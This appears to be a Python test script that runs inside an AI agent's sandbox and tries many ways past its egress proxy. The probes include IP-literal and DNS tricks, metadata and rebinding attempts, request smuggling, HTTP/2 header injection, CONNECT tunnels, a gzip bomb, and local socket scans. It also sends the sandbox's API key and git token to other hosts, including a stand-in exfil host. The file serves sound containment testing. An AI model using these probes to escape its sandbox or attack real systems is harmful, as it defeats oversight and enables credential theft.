"""Runs inside the sandbox: tries every way out, prints what became of each as JSON. Standard library only.

An outcome is what a client sees: `403 host` (a status of ours and its obstacle), `cut` (reset or closed without a
word), `unreachable`, `no answer`, `tls alert`, or the beginning of what came back.
"""

import base64
import errno
import gzip
import json
import os
import re
import socket
import ssl
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

ALLOWED, GIT, DENIED = "api.anthropic.com", "git.demo.example", "exfil.demo.example"
RECORD, JUDGED = "record.demo.example", "judged.demo.example"
CUT = "cut"
GET = f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n"
RESULTS = {}
AGENTS_OWN = "/tmp/cc-socks"  # made inside, by the agent's program
ERRORS = {
    errno.EPERM: "forbidden",
    errno.ENOSYS: "no such call",
    errno.ENETUNREACH: "unreachable",
    errno.EHOSTUNREACH: "unreachable",
    errno.ECONNREFUSED: "unreachable",
    errno.ENOENT: "no such file",
}


def attempt(name, function, *arguments, **options):
    try:
        RESULTS[name] = function(*arguments, **options)
    except TimeoutError:
        RESULTS[name] = "no answer"
    except ssl.SSLError as error:
        words = str(error).lower()
        RESULTS[name] = (
            "tls alert" if "alert" in words or "unrecognized" in words else "cut" if "eof" in words else words
        )
    except (ConnectionResetError, BrokenPipeError, EOFError):
        RESULTS[name] = "cut"
    except OSError as error:
        RESULTS[name] = ERRORS.get(error.errno, f"{type(error).__name__} {error.errno}")
    except Exception as error:
        RESULTS[name] = f"{type(error).__name__}: {error}"


def verdict(answer):
    """`403 host` for an answer of ours, the status alone for an upstream's, `cut` for none."""
    if not answer:
        return "cut"
    text = answer.decode("latin-1")
    status = text.split(" ")[1] if text.startswith("HTTP/") else ""
    obstacle = re.search(r'"obstacle": "([a-z-]+)"', text)
    return f"{status} {obstacle[1]}".strip() if obstacle else status or f"answered {text[:60]!r}"


def read(client):
    """Until the end, or a moment of silence after something came."""
    data = b""
    try:
        while part := client.recv(65536):
            data += part
            client.settimeout(1)
    except (TimeoutError, ConnectionResetError):
        if not data:
            raise
    return data


def tcp(host, port, data=b"", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(8)
        client.connect((host, port))
        client.sendall(data)
        return verdict(read(client))


def plain(name, data, port=80):
    return tcp(socket.gethostbyname(name), port, data)


def open_tls(name, sni="", alpn=()):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(list(alpn))
    raw = socket.create_connection((name, 443), timeout=8)
    return context.wrap_socket(raw, server_hostname=name if sni == "" else sni)


def tls(name, data, **options):
    with open_tls(name, **options) as client:
        client.sendall(data)
        return verdict(read(client))


def http(name, target="/", *lines, method="GET", body=b"", host=None):
    head = "\r\n".join(
        [f"{method} {target} HTTP/1.1", f"Host: {host or name}", "Connection: close", *lines, "", ""]
    )
    return tls(name, head.encode("latin-1") + body)


def udp(host, port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(2)
        client.connect((host, port))
        client.send(data)
        return client.recv(4096)


def curl(*arguments):
    done = subprocess.run(["curl", "-sS", "-i", "-m", "10", *arguments], capture_output=True, check=False)
    if done.stdout:
        return verdict(done.stdout[done.stdout.rfind(b"HTTP/") :])
    words = done.stderr.decode()
    if "unrecognized name" in words:
        return "tls alert"
    return CUT if "reset by peer" in words or "Failed to connect" in words else words[:80]


# -- HTTP/2, just enough of it ---------------------------------------------------------------------------


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    def text(raw):
        return (bytes([len(raw)]) if len(raw) < 127 else b"\x7f" + number(len(raw) - 127)) + raw

    return b"\x00" + text(name.encode()) + text(value.encode("latin-1"))


def number(value):
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")


def h2(name, *fields, sni="", more=b""):
    block = b"".join(field(*pair) for pair in fields)
    with open_tls(name, sni=sni, alpn=("h2",)) as client:
        client.sendall(PREFACE + frame(1, 5, 1, block) + more)
        return h2_verdict(read(client))


def h2_verdict(data):
    obstacle = re.search(rb'"obstacle": "([a-z-]+)"', data)
    if obstacle:
        return f"h2 {obstacle[1].decode()}"
    kinds = []
    while len(data) >= 9:
        kinds.append(data[3])
        data = data[9 + int.from_bytes(data[:3], "big") :]
    return "h2 stream refused" if 3 in kinds or 7 in kinds else "h2 answered" if 1 in kinds else "cut"


def pseudo(method="GET", authority=ALLOWED, path="/", scheme="https"):
    return ((":method", method), (":scheme", scheme), (":authority", authority), (":path", path))


def h2_trailers(*trailers):
    head = b"".join(field(*pair) for pair in pseudo("POST", RECORD, "/trailers/http2"))
    tail = b"".join(field(*pair) for pair in trailers)
    with open_tls(RECORD, alpn=("h2",)) as client:
        client.sendall(PREFACE + frame(1, 4, 1, head) + frame(0, 0, 1, b"body") + frame(1, 5, 1, tail))
        return h2_verdict(read(client))


def continuation_flood():
    """Whether the connection's end is seen as a frame or not depends on how much we had written by then."""
    frames = frame(1, 1, 3, b"") + frame(9, 0, 3, field("x-a", "b" * 120)) * 2000
    seen = h2(ALLOWED, *pseudo(), more=frames)
    return "cut" if seen == "h2 stream refused" else seen


# -- DNS ---------------------------------------------------------------------------------------------------


def question(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return (
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
        + labels
        + b"\x00"
        + kind.to_bytes(2, "big")
        + b"\x00\x01"
    )


def dns(name, kind=1):
    """Response code, answers, and the first two bytes of an address."""
    answer = udp("8.8.8.8", 53, question(name, kind))
    code, answers = answer[3] & 15, int.from_bytes(answer[6:8], "big")
    address = f" {answer[-4]}.{answer[-3]}" if answers and kind == 1 else ""
    return f"code {code}, {answers} answers{address}"


def thousand_names():
    answered = 0
    for index in range(1000):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(0.02)
            client.connect(("8.8.8.8", 53))
            client.send(question(f"{'a' * 60}.{index}.leak.example"))
            try:
                client.recv(512)
                answered += 1
            except TimeoutError:
                if index - answered > 20:
                    break
    return "throttled" if answered < 1000 else "answered by us, forwarded nowhere"


def rebinding(name):
    """Two requests, with an answer of DNS between them; what a public address says of it (502) is its own affair."""
    first = http(name)
    time.sleep(1.2)  # as long as an answer that may not be kept is kept all the same
    return ", then ".join(
        re.sub("^502 upstream-(unreachable|tls)", "502", verdict) for verdict in (first, http(name))
    )


# -- TLS, just enough of it --------------------------------------------------------------------------------


def extension(kind, data):
    return kind.to_bytes(2, "big") + len(data).to_bytes(2, "big") + data


def sized(data, size=2):
    return len(data).to_bytes(size, "big") + data


def client_hello_with_ech(outer):
    """TLS 1.3 with an encrypted_client_hello: whether it is real or grease, only the holder of a key could tell."""
    hpke = b"\x00" + b"\x00\x01\x00\x01" + b"\x07" + sized(os.urandom(32)) + sized(os.urandom(144))
    extensions = b"".join([
        extension(0, sized(b"\x00" + sized(outer.encode()))),
        extension(10, sized(b"\x00\x1d")),
        extension(13, sized(bytes.fromhex("0403080404010503080505010806"))),
        extension(43, sized(b"\x03\x04", 1)),
        extension(51, sized(b"\x00\x1d" + sized(os.urandom(32)))),
        extension(16, sized(sized(b"http/1.1", 1))),
        extension(0xFE0D, hpke),
    ])  # fmt: skip
    body = (
        b"\x03\x03"
        + os.urandom(32)
        + sized(os.urandom(32), 1)
        + sized(b"\x13\x01\x13\x02\x13\x03")
        + b"\x01\x00"
    )
    return b"\x16\x03\x01" + sized(b"\x01" + sized(body + sized(extensions), 3))


def ech(outer):
    """What is answered: a ServerHello is one for the outer name, because nobody here could read the inner one."""
    with socket.create_connection((ALLOWED, 443), timeout=8) as client:
        client.sendall(client_hello_with_ech(outer))
        answer = client.recv(4096)
    return {b"\x16": "as the outer name", b"\x15": "tls alert", b"": CUT}.get(answer[:1], repr(answer[:8]))


# -- floods ------------------------------------------------------------------------------------------------


def huge_body():
    with open_tls(DENIED) as client:
        client.sendall(f"POST / HTTP/1.1\r\nHost: {DENIED}\r\nContent-Length: 10000000000\r\n\r\n".encode())
        sent, block = 0, b"x" * 65536
        try:
            while sent < 64 * 1024 * 1024:
                client.sendall(block)
                sent += len(block)
        except OSError:
            pass
        try:
            return verdict(read(client)) if sent < 64 * 1024 * 1024 else "took it all"
        except OSError:
            return "cut"


def slow_head():
    """A head that never ends is not waited for: the connection is closed while we still write."""
    with socket.create_connection((socket.gethostbyname(ALLOWED), 80), timeout=8) as client:
        client.sendall(b"GET / HTTP/1.1\r\n")
        end = time.monotonic() + 45
        try:
            while time.monotonic() < end:
                client.sendall(b"X-Slow: 1\r\n")
                client.settimeout(1)
                try:
                    return verdict(client.recv(4096))
                except TimeoutError:
                    continue
        except OSError:
            return "cut"
    return "still open"


# -- files -------------------------------------------------------------------------------------------------


def unix(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.connect(path)
        return "connected"


def listeners():
    """Ports that somebody listens on in this namespace."""
    ports = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            _, local, _, state, *_ = line.split()
            if state == "0A":
                ports.add(int(local.rpartition(":")[2], 16))
    return ", ".join(map(str, sorted(ports)))


def abstract_sockets():
    names = (line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines()[1:])
    return ", ".join(sorted({name for name in names if name.startswith("@")})) or "none"


def sockets_in_files():
    found = []
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/proc", "/sys", AGENTS_OWN)):
            continue
        for path in (Path(folder) / name for name in names):
            try:
                if stat.S_ISSOCK(path.lstat().st_mode):
                    found.append(str(path))
            except OSError:
                continue
    return ", ".join(found) or "none"


# -- what is tried ----------------------------------------------------------------------------------------


def try_around_the_proxy():
    """Addresses, ports and protocols that no rule can name."""
    for name, address in {
        "ipv4_literal": "1.1.1.1", "ipv4_private": "10.0.0.1", "ipv4_host_gateway": "10.88.0.1", "metadata": "169.254.169.254",
    }.items():  # fmt: skip
        attempt(name, tcp, address, 443, b"hello")
    attempt("ipv4_literal_http", curl, "http://1.1.1.1/")
    for name, text in {
        "hex": "0x01010101",
        "decimal": "16843009",
        "octal": "0001.0001.0001.0001",
        "short": "1.1",
    }.items():
        attempt(f"ipv4_{name}", curl, "-k", f"https://{text}/")
    attempt("ipv6_literal", tcp, "2606:4700:4700::1111", 443, b"", socket.AF_INET6)
    attempt("ipv6_mapped", tcp, "::ffff:1.1.1.1", 443, b"hello", socket.AF_INET6)
    attempt("literal_host_header", http, ALLOWED, "/", host="1.1.1.1")
    attempt("odd_port", tcp, socket.gethostbyname(ALLOWED), 8443, b"hello")
    attempt("udp_other", udp, "8.8.8.8", 123, b"x" * 48)
    attempt("quic", udp, "1.1.1.1", 443, b"\xc0" + b"\x00" * 1200)
    attempt("tcp_dns_public", tcp, "8.8.8.8", 53, b"\x00\x1d" + question("example.com"))
    attempt(
        "icmp",
        lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close() or "opened",
    )
    attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).close() or "opened")
    attempt("interfaces", lambda: ", ".join(sorted(name for _, name in socket.if_nameindex())))


def try_names():
    """What a resolver could carry away, and where an allowed name could lead."""
    attempt("dns_address", dns, "example.com")
    attempt("dns_text", dns, "aGVsbG8.leak.example", 16)
    attempt("dns_https", dns, ALLOWED, 65)
    attempt("dns_any", dns, "example.com", 255)
    attempt("dns_ipv6", dns, ALLOWED, 28)
    attempt("dns_long_labels", dns, ".".join(["a" * 63] * 3 + ["b" * 50]))
    attempt("dns_thousand_names", thousand_names)
    for kind in ("loopback", "private", "link-local", "metadata", "cgnat", "mapped", "ula", "mixed"):
        attempt(f"rebind_{kind}", http, f"{kind}.rebind.example")


def try_no_http():
    """Other protocols on the ports that are open."""
    attempt("raw_tcp_allowed_name", tcp, socket.gethostbyname(ALLOWED), 22, b"SSH-2.0-x\r\n")
    attempt("raw_bytes_on_443", tcp, socket.gethostbyname(ALLOWED), 443, b"SSH-2.0-x\r\n\r\n")
    attempt("raw_bytes_on_80", plain, ALLOWED, b"SSH-2.0-x\r\n\r\n")
    attempt("tls_without_http", tls, ALLOWED, b"\x00\x01\x02\x03 not http\r\n\r\n")
    attempt("tls_on_80", plain, ALLOWED, b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")
    attempt("ech_outer_allowed", ech, ALLOWED)
    attempt("ech_outer_denied", ech, DENIED)
    attempt("foreign_alpn", tls, ALLOWED, b"", alpn=("ssh",))


def try_the_allowlist():
    """Hosts, paths, methods and bodies that are not named."""
    attempt("denied_host", http, DENIED, "/?a=b")
    attempt("denied_path", http, GIT, "/other.git/info/refs")
    attempt("denied_method", http, GIT, "/read-only/x", method="DELETE")
    attempt("method_override", http, GIT, "/read-only/x", "X-HTTP-Method-Override: GET", method="POST")
    attempt("redirect", curl, "-L", "-o", "/dev/stdout", f"https://{GIT}/demo.git/leave")
    attempt("trailing_dot", http, DENIED, host=f"{DENIED}.")
    attempt("user_info", http, ALLOWED, host=f"{ALLOWED}@{DENIED}")
    attempt("nul_in_host", http, ALLOWED, host=f"{ALLOWED}\0.{DENIED}")
    for name, path in {
        "dots": "/demo.git/../other.git/x", "encoded_dots": "/demo.git/%2e%2e/other.git/x", "encoded_slash": "/demo.git%2f..%2fother.git/x",
        "double_encoding": "/demo.git/%252e%252e/x", "backslash": "/demo.git/..\\other.git", "empty_segment": "/demo.git//x",
        "parameters": "/demo.git/..;a=b/other.git/x", "encoded_nul": "/demo.git/x%00", "bad_utf8": "/demo.git/%ff",
    }.items():  # fmt: skip
        attempt(f"path_{name}", http, GIT, path)


def try_names_that_disagree():
    """One name outside, another one inside."""
    attempt("host_is_not_sni", http, ALLOWED, host=DENIED)
    attempt("sni_is_not_host", tls, ALLOWED, GET.encode() + b"\r\n", sni=DENIED)
    attempt("no_sni", tls, ALLOWED, GET.encode() + b"\r\n", sni=None)
    attempt("sni_is_an_address", tls, ALLOWED, GET.encode() + b"\r\n", sni="1.1.1.1")
    attempt(
        "absolute_form", tls, ALLOWED, f"GET https://{DENIED}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode()
    )
    attempt(
        "absolute_form_other_host",
        tls,
        ALLOWED,
        f"GET https://{ALLOWED}/ HTTP/1.1\r\nHost: {DENIED}\r\n\r\n".encode(),
    )
    attempt("two_hosts", tls, ALLOWED, (GET + f"Host: {DENIED}\r\n\r\n").encode())
    attempt("no_host", tls, ALLOWED, b"GET / HTTP/1.1\r\n\r\n")
    attempt(
        "foreign_host_plain",
        plain,
        GIT,
        f"GET /demo.git/info/refs HTTP/1.1\r\nHost: {DENIED}\r\n\r\n".encode(),
    )


def try_tunnels():
    """What would carry anything at all."""
    attempt(
        "connect", plain, ALLOWED, f"CONNECT {DENIED}:443 HTTP/1.1\r\nHost: {DENIED}:443\r\n\r\n".encode()
    )
    attempt(
        "connect_in_tls",
        tls,
        ALLOWED,
        f"CONNECT {DENIED}:443 HTTP/1.1\r\nHost: {DENIED}:443\r\n\r\n".encode(),
    )
    attempt(
        "connect_to_the_allowed",
        tls,
        ALLOWED,
        f"CONNECT {ALLOWED}:443 HTTP/1.1\r\nHost: {ALLOWED}:443\r\n\r\n".encode(),
    )

    upgrade = ("Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA")
    attempt("h2c_upgrade", http, ALLOWED, "/", "Upgrade: h2c", *upgrade)
    attempt("h2c_prior_knowledge", plain, ALLOWED, PREFACE)
    attempt("upgrade_to_anything", http, ALLOWED, "/", "Connection: Upgrade", "Upgrade: tcp")
    socket_key = (
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    )
    attempt("websocket_denied_path", http, GIT, "/other/socket", *socket_key)
    attempt("websocket_denied_host", http, DENIED, "/socket", *socket_key)


def try_http2():
    """The same over HTTP/2."""
    attempt("h2_authority_is_not_sni", h2, ALLOWED, *pseudo(authority=DENIED))
    attempt("h2_host_is_not_authority", h2, ALLOWED, *pseudo(), ("host", DENIED))
    attempt("h2_denied_path", h2, GIT, *pseudo(authority=GIT, path="/other.git/info/refs"))
    attempt(
        "h2_second_stream",
        h2,
        ALLOWED,
        *pseudo(),
        more=frame(1, 5, 3, b"".join(field(*pair) for pair in pseudo(authority=DENIED))),
    )
    attempt("h2_connect", h2, ALLOWED, (":method", "CONNECT"), (":authority", f"{DENIED}:443"))
    attempt("h2_extended_connect", h2, ALLOWED, *pseudo(method="CONNECT"), (":protocol", "websocket"))
    attempt("h2_line_break_in_path", h2, ALLOWED, *pseudo(path=f"/ HTTP/1.1\r\nHost: {DENIED}\r\n\r\nGET /"))
    attempt("h2_line_break_in_value", h2, ALLOWED, *pseudo(), ("x-a", f"b\r\nHost: {DENIED}"))
    attempt("h2_pseudo_twice", h2, ALLOWED, *pseudo(), (":authority", DENIED))
    attempt(
        "h2_pseudo_after_fields",
        h2,
        ALLOWED,
        (":method", "GET"),
        (":scheme", "https"),
        (":path", "/"),
        ("x-a", "b"),
        (":authority", DENIED),
    )
    attempt("h2_connection_header", h2, ALLOWED, *pseudo(), ("connection", "upgrade"), ("upgrade", "tcp"))
    attempt("h2_scheme", h2, ALLOWED, *pseudo(scheme="ftp"))
    attempt("h2_continuation_flood", continuation_flood)


def try_smuggling():
    """Heads that two parsers read in two ways."""
    smuggled = f"GET / HTTP/1.1\r\nHost: {DENIED}\r\n\r\n"
    for name, lines in {
        "cl_te": ("Content-Length: 5", "Transfer-Encoding: chunked"), "te_te": ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
        "te_odd": ("Transfer-Encoding: xchunked",), "te_space": ("Transfer-Encoding : chunked",), "two_lengths": ("Content-Length: 5", "Content-Length: 6"),
        "length_sign": ("Content-Length: +5",), "folded_line": ("X-A: b", f" Host: {DENIED}"), "nul_in_value": ("X-A: b\0c",),
        "bare_cr_in_value": (f"X-A: b\rHost: {DENIED}",), "bare_lf_in_value": (f"X-A: b\nHost: {DENIED}",), "space_before_colon": (f"Host : {DENIED}",),
    }.items():  # fmt: skip
        attempt(
            f"smuggle_{name}",
            http,
            ALLOWED,
            "/",
            *lines,
            method="POST",
            body=b"0\r\n\r\n" + smuggled.encode(),
        )
    attempt("bare_lf_head", tls, ALLOWED, f"GET / HTTP/1.1\nHost: {ALLOWED}\n\n".encode())
    attempt("huge_header", http, ALLOWED, "/", f"X-A: {'b' * 200_000}")
    attempt("many_headers", http, ALLOWED, "/", *(f"X-{index}: a" for index in range(1000)))


def try_credentials():
    """Surrogates where they do not belong."""
    key, token = os.environ.get("ANTHROPIC_API_KEY", ""), os.environ.get("DEMO_GIT_TOKEN", "")
    foreign = base64.b64encode(f"x:{key}".encode()).decode()
    attempt("credential_to_another_host", http, GIT, "/demo.git/info/refs", f"Authorization: Bearer {key}")
    attempt("credential_hidden_in_basic", http, GIT, "/demo.git/info/refs", f"Authorization: Basic {foreign}")
    attempt("credential_in_a_cookie", http, GIT, "/demo.git/info/refs", f"Cookie: session={key}")
    attempt("credential_over_plain_http", plain, ALLOWED, f"{GET}X-Api-Key: {key}\r\n\r\n".encode())
    attempt("credential_in_a_denied_request", http, DENIED, "/", f"Authorization: Bearer {token or key}")
    attempt(
        "trailers_http1",
        http,
        RECORD,
        "/trailers/http1",
        "Transfer-Encoding: chunked",
        "Trailer: Authorization, X-Foreign",
        method="POST",
        body=f"4\r\nbody\r\n0\r\nAuthorization: Bearer {key}\r\nX-Foreign: agents-own\r\n\r\n".encode(),
    )
    attempt("trailers_http2", h2_trailers, ("authorization", f"Bearer {key}"), ("x-foreign", "agents-own"))


QUERY = b'{"query": "{viewer{login}}", "variables": {"a": "' + b"x" * 8000 + b'"}}'
BOMB = gzip.compress(b"\0" * 64 * 1024 * 1024)


def try_bodies():
    """Bodies that are judged."""
    attempt(
        "graphql_denied_field",
        http,
        GIT,
        "/graphql",
        "Content-Type: application/json",
        "Content-Length: 33",
        method="POST",
        body=b'{"query": "mutation{deleteRepo}"}',
    )
    attempt(
        "bomb_in_an_inspected_body",
        http,
        GIT,
        "/graphql",
        "Content-Type: application/json",
        "Content-Encoding: gzip",
        f"Content-Length: {len(BOMB)}",
        method="POST",
        body=BOMB,
    )
    attempt(
        "chunked_above_the_limit",
        http,
        JUDGED,
        "/graphql",
        "Content-Type: application/json",
        "Transfer-Encoding: chunked",
        method="POST",
        body=b"2000\r\n" + QUERY.ljust(8192) + b"\r\n0\r\n\r\n",
    )


def try_the_host(services):
    """What listens beside the sandbox."""
    for name, where in services.items():
        if isinstance(where, int):
            attempt(f"service_{name}", tcp, "127.0.0.1", where, b"hello")
        else:
            attempt(f"socket_{name}", unix, where)
    attempt("listeners", listeners)
    attempt("abstract_sockets", abstract_sockets)
    attempt("our_own_listener", tcp, "127.0.0.1", 15001, GET.encode() + b"\r\n")
    attempt("sockets_in_files", sockets_in_files)


def main():
    services = json.loads(sys.argv[1]) if len(sys.argv) > 1 else {}
    slow = [threading.Thread(target=attempt, args=("slow_head", slow_head))]
    for kind in ("into-loopback", "into-metadata", "out-of-loopback"):
        name = f"{kind}.rebind.example"
        slow.append(threading.Thread(target=attempt, args=(f"rebind_{kind}", rebinding, name)))
    for thread in slow:
        thread.start()
    try_around_the_proxy()
    try_names()
    try_no_http()
    try_the_allowlist()
    try_names_that_disagree()
    try_tunnels()
    try_http2()
    try_smuggling()
    try_credentials()
    try_bodies()
    try_the_host(services)
    attempt("ten_gigabytes", huge_body)
    for thread in slow:
        thread.join()
    attempt("allowed", http, GIT, "/demo.git/info/refs?service=git-upload-pack")
    print(json.dumps(RESULTS, indent=1))


main()
